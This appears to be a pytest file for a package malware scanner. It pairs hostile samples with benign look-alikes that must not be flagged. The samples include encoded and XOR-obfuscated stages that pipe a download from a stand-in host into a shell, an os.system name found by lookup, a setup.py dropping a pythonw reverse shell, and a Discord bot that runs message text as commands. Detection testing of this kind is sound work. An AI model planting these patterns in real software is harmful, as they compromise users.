"""The blind33 recall round's misses (benchmarks/malware/tune/b33-*), each as the smallest
package that shows the technique, asserted in package mode with the prefilter's twin
(the whole-file pass finds the rule, the prefiltered scan finds every DANGER it does), and
the honest code of the same shape that must stay clean. Each attack failed on main at
``17db4a4d``; each near miss passes there and here."""

from __future__ import annotations

import base64
import zlib
from pathlib import Path

import pytest

from tests._scan.test_blind32 import attack, clean

#: An inert second stage (a download piped to a shell), zlib'd and base64'd.
STAGE_ZB64 = base64.b64encode(
    zlib.compress(b'import os\nos.system("curl -fsSL https://cdn.pkg-update.example/i.sh | sh")\n')
).decode()
#: The same stage XORed with a cycling four-byte key, then base64'd.
XOR_KEY = b"k3y!"
STAGE_XOR = base64.b64encode(
    bytes(
        b ^ XOR_KEY[i % len(XOR_KEY)]
        for i, b in enumerate(b"import os;os.system('curl -s https://cdn.pkg-update.example/r|sh')")
    )
).decode()

# -- computed names ----------------------------------------------------------------------------


def test_a_runner_picked_out_of_the_os_listing_by_a_list_comprehension_is_hidden(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    picked = """
    import os
    _f = [getattr(os, n) for n in dir(os) if n.startswith("sys") and len(n) == 6][0]
    _f("wget -q -O- https://cdn.pkg-update.example/i | bash")
    """
    attack(tmp_path, monkeypatch, {"pkg/__init__.py": picked}, "CPL-THR-003")


def test_a_listing_of_os_flags_collected_by_a_comprehension_is_no_pick(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    flags = """
    import os
    FLAGS = {n: getattr(os, n) for n in dir(os) if n.startswith("O_")}
    WAITS = [getattr(os, n) for n in dir(os) if n.startswith("WN")]
    """
    clean(tmp_path, monkeypatch, {"pkg/__init__.py": flags})


def test_a_runners_name_in_pieces_on_a_module_imported_by_a_computed_name_is_hidden(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    reversed_module = """
    import importlib
    _MODS = ("ssecorpbus", "so")

    def _m(i):
        return importlib.import_module(_MODS[i][::-1])

    getattr(_m(0), "Po" + "pen")("curl -fsSL https://cdn.pkg-update.example/t | sh", shell=True)
    """
    attack(tmp_path, monkeypatch, {"pkg/_compat.py": reversed_module}, "CPL-THR-003")


def test_a_hook_named_in_pieces_on_an_untyped_object_is_no_hidden_lookup(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    hooks = """
    import importlib

    def load(name, event):
        plugin = importlib.import_module(name)
        getattr(plugin, "on_" + event)()
        getattr(plugin, "on_" + "load")()
        return getattr(plugin, "system")
    """
    clean(tmp_path, monkeypatch, {"pkg/plugins.py": hooks})


# -- a stage decoded in a method -----------------------------------------------------------


def test_a_blob_of_a_class_decoded_by_a_method_and_run_is_a_dropper(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    method = f"""
    import base64
    import zlib

    def _unwrap(s):
        return base64.b64decode(s)

    class Resources:
        CACHE = "{STAGE_ZB64}"

        def _text(self):
            return zlib.decompress(_unwrap(self.CACHE)).decode()

        def load(self):
            exec(self._text(), {{}})
    """
    attack(tmp_path / "a", monkeypatch, {"pkg/_res.py": method}, "CPL-THR-001")
    classmethod_xor = f"""
    import base64
    import itertools

    class _Dec:
        KEY = {XOR_KEY!r}

        @classmethod
        def run(cls, s):
            raw = base64.b64decode(s)
            return bytes(a ^ b for a, b in zip(raw, itertools.cycle(cls.KEY))).decode()

    exec(compile(_Dec.run("{STAGE_XOR}"), "<fmt>", "exec"))
    """
    attack(tmp_path / "b", monkeypatch, {"pkg/__init__.py": classmethod_xor}, "CPL-THR-001")


def test_settings_decoded_by_a_method_and_parsed_are_no_dropper(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    settings = """
    import base64
    import json
    import subprocess

    class Settings:
        BLOB = "eyJyZXRyaWVzIjogM30="

        def _decoded(self):
            return base64.b64decode(self.BLOB)

        def load(self):
            return json.loads(self._decoded())

        def command(self):
            return ["git", "rev-parse", "HEAD"]

        def head(self):
            return subprocess.check_output(self.command(), text=True)
    """
    clean(tmp_path, monkeypatch, {"pkg/settings.py": settings})


# -- download and run through a function's result ----------------------------------------------


def test_a_download_whose_path_a_function_returns_started_by_a_child_process_is_run(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    child = """
    import multiprocessing
    import os
    import urllib.request

    def _fetch():
        dst = os.path.join(os.getenv("TEMP", "."), "codec.exe")
        urllib.request.urlretrieve("https://cdn.pkg-update.example/codec.exe", dst)
        return dst

    multiprocessing.Process(target=os.startfile, args=(_fetch(),)).start()
    """
    attack(tmp_path, monkeypatch, {"pkg/__init__.py": child}, "CPL-THR-002")


def test_a_report_whose_path_a_function_returns_opened_by_startfile_is_no_download(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    report = """
    import os
    import tempfile

    def _report(rows):
        dst = os.path.join(tempfile.gettempdir(), "report.html")
        with open(dst, "w") as fh:
            fh.write("<table>" + "".join(f"<tr><td>{r}</td></tr>" for r in rows) + "</table>")
        return dst

    def show(rows):
        os.startfile(_report(rows))
    """
    clean(tmp_path, monkeypatch, {"pkg/report.py": report})


# -- a stage written and started with pythonw ------------------------------------------------


def test_source_written_to_appdata_and_started_with_pythonw_beside_the_interpreter_is_run(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    dropper = '''
    import os
    import subprocess
    import sys

    STAGE = """import os, socket, subprocess
    s = socket.socket()
    s.connect(("192.0.2.150", 4444))
    for fd in (0, 1, 2):
        os.dup2(s.fileno(), fd)
    subprocess.call(["cmd.exe"])
    """

    p = os.path.join(os.getenv("APPDATA", ""), "Helper", "svc.pyw")
    with open(p, "w") as fh:
        fh.write(STAGE)
    exe = os.path.join(os.path.dirname(sys.executable), "pythonw.exe")
    subprocess.Popen([exe, p], creationflags=0x00000008)
    '''
    attack(tmp_path, monkeypatch, {"setup.py": dropper}, "CPL-THR-016")


def test_a_harmless_script_written_and_started_with_pythonw_is_no_stage(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    helper = '''
    import os
    import subprocess
    import sys
    import tempfile

    SCRIPT = """import sys
    print(sys.version)
    """

    def version():
        p = os.path.join(tempfile.mkdtemp(), "probe.py")
        with open(p, "w") as fh:
            fh.write(SCRIPT)
        exe = os.path.join(os.path.dirname(sys.executable), "pythonw.exe")
        return subprocess.check_output([exe, p], text=True)
    '''
    clean(tmp_path, monkeypatch, {"pkg/probe.py": helper})


# -- a chat bot's event methods --------------------------------------------------------------


def test_a_discord_client_subclass_running_its_messages_is_remote_control(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    bot = """
    import os
    import discord

    class _C(discord.Client):
        async def on_message(self, message):
            if message.author == self.user:
                return
            out = os.popen(message.content).read()
            await message.channel.send(out[:1900])

    _C(intents=discord.Intents.default()).run("MTE3.FAKE.token")
    """
    attack(tmp_path, monkeypatch, {"pkg/bot.py": bot}, "CPL-THR-020")


def test_a_discord_client_subclass_running_a_fixed_command_is_no_remote_control(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    bot = """
    import subprocess
    import discord

    class Deployer(discord.Client):
        async def on_message(self, message):
            if message.content == "!deploy":
                out = subprocess.run(["git", "pull"], capture_output=True, text=True).stdout
                await message.channel.send(out[:1900])
            else:
                await message.channel.send(message.content.upper())
    """
    clean(tmp_path, monkeypatch, {"pkg/bot.py": bot})


# -- numbers in a base built into a command (the prefilter) -------------------------------------


def test_a_command_kept_as_octal_numbers_reaches_the_parse(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    octal = " ".join(oct(c)[2:] for c in b"wget -qO- https://cdn.pkg-update.example/m | sh")
    command = f"""
    import subprocess

    _T = "{octal}"

    def _cmd():
        return bytes(int(x, 8) for x in _T.split()).decode()

    subprocess.getoutput(_cmd())
    """
    attack(tmp_path, monkeypatch, {"pkg/__init__.py": command}, "CPL-THR-015")


def test_a_colour_read_from_hex_numbers_beside_a_process_call_is_clean(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    colour = """
    import subprocess

    def rgb(text):
        return bytes(int(x, 16) for x in text.split())

    def version():
        return subprocess.check_output(["git", "--version"], text=True)
    """
    clean(tmp_path, monkeypatch, {"pkg/colour.py": colour})
